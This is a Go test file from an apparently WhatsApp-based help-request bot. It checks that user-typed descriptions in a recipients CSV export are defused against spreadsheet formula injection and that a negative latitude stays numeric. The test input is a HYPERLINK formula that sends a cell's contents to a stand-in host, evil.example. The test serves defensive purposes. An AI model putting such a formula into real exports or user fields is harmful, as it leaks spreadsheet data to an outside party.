package broadcast

import (
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"lifeline/bot/whatsapp"
)

// A need-help description is typed by anyone on WhatsApp; in recipients.csv
// it must reach a spreadsheet as text, never as a formula.
func TestRecipientsCSVDefusesFormulas(t *testing.T) {
	h := newHarness(t, hopts{engine: true})
	ids := h.contacts(1, "en")
	id := h.create(checkinSpec())
	h.waitState(id, StateSent)
	const evil = `=HYPERLINK("http://evil.example/?"&A1,"Click for details")`
	h.ingest(whatsapp.Message{From: ids[0], Type: "text", Text: "help"})
	h.ingest(whatsapp.Message{From: ids[0], Type: "location", Location: &whatsapp.Location{Latitude: -33.9, Longitude: 18.4}})
	h.ingest(whatsapp.Message{From: ids[0], Type: "text", Text: evil})
	eventually(t, 5*time.Second, "the description recorded", func() bool { _, e := h.recipient(id, 1); return e.Description != "" })

	var out strings.Builder
	if err := h.svc.WriteRecipientsCSV(id, &out); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("recipients.csv: %v\n%s", err, out.String())
	}
	cell := map[string]string{}
	for i, name := range rows[0] {
		cell[name] = rows[1][i]
	}
	if got := cell["description"]; got != "'"+evil {
		t.Fatalf("description cell %q: a spreadsheet would run it", got)
	}
	if cell["latitude"] != "-33.900000" {
		t.Fatalf("latitude %q: a negative number must stay a number", cell["latitude"])
	}
}
